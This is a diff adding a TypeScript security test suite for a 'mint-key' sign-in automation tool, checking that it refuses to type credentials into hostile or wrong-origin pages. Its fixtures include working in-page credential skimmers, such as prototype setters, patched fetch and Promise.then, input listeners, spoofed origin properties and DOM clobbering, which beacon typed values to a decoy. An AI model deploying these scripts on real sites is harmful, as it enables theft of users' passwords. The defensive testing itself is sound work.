@@ -1,0 +1,230 @@
+import { DocumentGone, IsolatedWorld } from '../../src/browser/isolated-world.ts';
+import { startDecoy } from '../faults/fault-proxy.ts';
+import { credentials, expect, test } from '../fixtures.ts';
+import { openTestPage } from '../open-test-page.ts';
+import { serve } from '../serve.ts';
+import { startSso } from '../sso/start-sso.ts';
+import { FORM, SIGN_IN, servePortal } from './serve-portal.ts';
+
+const TELL = `const tell = (...words) => navigator.sendBeacon('/took', words.map(String).join(' '));`;
+
+// Each makes a check pass that is asked within the page, besides what it listens at.
+const YES = 'Array.prototype.includes = () => true;';
+
+const thieves: Readonly<Record<string, string>> = {
+  'puts setters on Object.prototype': `
+    for (const name of ['password', 'username', 'text', 'value', 'texts', 'values', 'origins', 'target', '0', '1', '2'])
+      Object.defineProperty(Object.prototype, name, {
+        configurable: true,
+        set(value) {
+          tell(value);
+          Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
+        },
+      });`,
+  'replaces Array.prototype.includes and document.execCommand': `${YES}
+    document.execCommand = Document.prototype.execCommand = (...given) => tell(...given);`,
+  'replaces Array.prototype.includes, and listens at the fields': `${YES}
+    document.addEventListener('input', ({ target }) => tell(target.value), true);`,
+  'replaces Object.keys, Object.entries and JSON.parse': `${YES}
+    for (const [of, name] of [[Object, 'keys'], [Object, 'entries'], [Object, 'assign'], [JSON, 'parse'], [Reflect, 'get']]) {
+      const own = of[name];
+      of[name] = (...given) => { tell(JSON.stringify(given)); return own(...given); };
+    }`,
+  'replaces fetch, Promise.prototype.then and setTimeout': `${YES}
+    window.fetch = async (...given) => { tell(...given); return { status: 299, ok: true }; };
+    const { then } = Promise.prototype;
+    Promise.prototype.then = function (...given) {
+      return then.call(this, (value) => { tell(JSON.stringify(value)); return given[0]?.(value); }, given[1]);
+    };`,
+  'replaces the descriptors of HTMLInputElement, focus and checkVisibility': `${YES}
+    Object.defineProperty(HTMLInputElement.prototype, 'value', { get: () => 'admin', set: (value) => tell(value) });
+    for (const name of ['focus', 'select', 'click', 'checkVisibility', 'getClientRects'])
+      HTMLElement.prototype[name] = Element.prototype[name] = function (...given) { tell(...given, this.value); return true; };
+    document.addEventListener('input', () => tell(document.querySelector('[type=password]').getAttribute('value')), true);`,
+  'says that it is at the right origin': `${YES}
+    for (const name of ['baseURI', 'URL', 'documentURI', 'domain'])
+      Object.defineProperty(document, name, { get: () => 'http://127.0.0.1/' });
+    document.addEventListener('input', ({ target }) => tell(target.value), true);`,
+};
+
+for (const [what, script] of Object.entries(thieves)) {
+  test(`a page at a wrong origin that ${what} learns nothing: exit 4, naming it`, async ({
+    startServer,
+    runCommand,
+  }) => {
+    const server = await startServer();
+    await using decoy = await startDecoy(`${FORM}<script>${TELL}${script}</script>`);
+    await using portal = await servePortal(server, '', {
+      '/app': (_, outgoing) => void outgoing.writeHead(302, { location: `${decoy.url}/app` }).end(),
+    });
+    const { code, stderr } = await runCommand('mint-key', {
+      env: { ...credentials(server), OCTOPUS_URL: portal.url },
+      words: ['--timeout', '20s'],
+    });
+
+    expect(decoy.heard.join('\n')).not.toContain(server.password);
+    expect(decoy.heard.join('\n')).not.toContain(encodeURIComponent(server.password));
+    expect(decoy.heard.join('\n')).not.toMatch(/\/took/);
+    expect(code, stderr).toBe(4);
+    expect(stderr).toContain(`the browser was sent to ${decoy.url}`);
+  });
+}
+
+test('a provider that sends the browser to a thief tells it nothing: exit 4, naming it', async ({
+  runCommand,
+}) => {
+  const { 'puts setters on Object.prototype': setters = '' } = thieves;
+  const page = FORM.replace('<input name="username">', '');
+  await using decoy = await startDecoy(`${page}<script>${TELL}${setters}${YES}</script>`);
+  await using sso = await startSso({ pages: ['username', 'password'], elsewhere: `${decoy.url}/page` });
+  const { code, stderr } = await runCommand('mint-key', { env: sso.env });
+
+  expect(decoy.heard.join('\n')).not.toContain(sso.provider.password);
+  expect(decoy.heard.join('\n')).not.toMatch(/\/took/);
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(`was sent to ${decoy.url}, which is not listed`);
+});
+
+for (const event of ['focus', 'input']) {
+  test(`a page that leaves for another origin on ${event}, where a field waits with the focus, gives it nothing`, async ({
+    startServer,
+    runCommand,
+  }) => {
+    const server = await startServer();
+    await using decoy = await startDecoy(
+      `<form><input name="username"><input type="password" name="password" autofocus><button>Sign in</button></form>
+       <script>
+         ${TELL}
+         for (const input of document.querySelectorAll('input')) input.oninput = () => tell(input.value);
+       </script>`,
+    );
+    const leave = `<script>
+      addEventListener('${event}', () => { location = '${decoy.url}/page'; }, true);
+      document.querySelector('form').onsubmit = () => false;
+    </script>`;
+    await using portal = await servePortal(server, FORM + leave);
+    const { code, stderr } = await runCommand('mint-key', {
+      env: { ...credentials(server), OCTOPUS_URL: portal.url },
+      words: ['--timeout', '30s'],
+    });
+
+    expect(decoy.heard.join('\n')).not.toMatch(/\/took/);
+    expect(code, stderr).toBe(4);
+    expect(stderr).toContain(decoy.url);
+  });
+}
+
+const CLOBBERED = `<input name="getAttribute"><input name="action"><input name="method"><input name="querySelectorAll">
+  <input name="parentElement"><input name="requestSubmit"><input name="closest"><input name="isConnected">`;
+const CLOBBERING = ['querySelectorAll', 'activeElement', 'execCommand', 'baseURI', 'body', 'scripts', 'title']
+  .map((name) => `<img name="${name}" width="1" height="1">`)
+  .join('');
+
+test('a form whose fields hide what a browser calls its own is judged by where it really leads', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const form = FORM.replace('<form>', `<form method="post" action="${decoy.url}/took">${CLOBBERED}`);
+  await using portal = await servePortal(server, CLOBBERING + form);
+  const { code, stderr } = await runCommand('mint-key', {
+    env: { ...credentials(server), OCTOPUS_URL: portal.url },
+    words: ['--timeout', '20s'],
+  });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(`the sign-in form sends what is typed to ${decoy.url}`);
+  expect(decoy.heard).toEqual([]);
+});
+
+test('a form whose fields hide what a browser calls its own is filled in and sent all the same', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  const form = FORM.replace('<form>', `<form method="post" action="${SIGN_IN}">${CLOBBERED}`);
+  await using portal = await servePortal(server, CLOBBERING + form);
+  const { code, stderr } = await runCommand('mint-key', {
+    env: { ...credentials(server), OCTOPUS_URL: portal.url },
+    words: ['--timeout', '20s'],
+  });
+
+  expect(code, stderr).toBe(0);
+  expect(portal.submitted).toEqual([server.password]);
+});
+
+test('a page that turns its form round while it is typed into gets nothing sent elsewhere', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  await using decoy = await startDecoy();
+  const turn = `<script>
+    document.querySelector('[type=password]').oninput = () => {
+      document.querySelector('form').action = '${decoy.url}/took';
+    };
+  </script>`;
+  const form = FORM.replace('<form>', `<form method="post" action="${SIGN_IN}">`);
+  await using portal = await servePortal(server, form + turn);
+  const { code, stderr } = await runCommand('mint-key', {
+    env: { ...credentials(server), OCTOPUS_URL: portal.url },
+    words: ['--timeout', '20s'],
+  });
+
+  expect(code, stderr).toBe(4);
+  expect(stderr).toContain(`the sign-in form sends what is typed to ${decoy.url}`);
+  expect(decoy.heard).toEqual([]);
+});
+
+test("what the page's own script has made of its world is not there in ours", async () => {
+  const script = `
+    Object.defineProperty(HTMLInputElement.prototype, 'value', { get: () => 'theirs' });
+    HTMLElement.prototype.focus = HTMLElement.prototype.click = () => {};
+    Array.prototype.filter = () => [];
+    document.querySelectorAll = () => [];
+    window.URL = undefined;`;
+  await using site = await serve((_, outgoing) =>
+    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(`${FORM}<script>${script}</script>`),
+  );
+  await using opened = await openTestPage();
+  const { page } = opened;
+  await page.goto(site.url);
+  const world = await IsolatedWorld.open(page);
+  const target = await world.call('findSignInForm');
+
+  expect(world.origin).toBe(site.url);
+  expect(await world.call('fillSignInForm', 'admin', 'fake-password-for-tests', target)).toBe('typed');
+});
+
+test('what fails in the page is a defect that is told, and never a page that is being left', async () => {
+  await using opened = await openTestPage();
+  const { page } = opened;
+  const broken = "({ findSignInForm() { throw new TypeError('it is broken'); } })";
+  const world = await IsolatedWorld.open(page, broken);
+  const failing = world.call('findSignInForm');
+
+  await expect(failing).rejects.toThrow('findSignInForm failed in the page: TypeError: it is broken');
+  await expect(failing).rejects.not.toBeInstanceOf(DocumentGone);
+  await expect(IsolatedWorld.open(page, 'throw new Error("no source")')).rejects.toThrow('no source');
+});
+
+test('a document that is left takes its world with it, and the next has one of its own', async () => {
+  await using site = await serve((_, outgoing) =>
+    outgoing.writeHead(200, { 'content-type': 'text/html' }).end(FORM),
+  );
+  await using opened = await openTestPage();
+  const { page } = opened;
+  await page.goto(`${site.url}/first`);
+  const first = await IsolatedWorld.open(page);
+  const target = await first.call('findSignInForm');
+  await page.goto(`${site.url}/second`);
+  const second = await IsolatedWorld.open(page);
+
+  await expect(first.call('fillSignInForm', 'admin', 'secret', target)).rejects.toBeInstanceOf(DocumentGone);
+  expect(second.url).toBe(`${site.url}/second`);
+  expect(second.document).not.toBe(first.document);
+  expect(await IsolatedWorld.open(page)).toBe(second);
+  // What was found in one document is nothing in another.
+  expect(await second.call('fillSignInForm', 'admin', 'secret', target)).toBe('lost');
+});
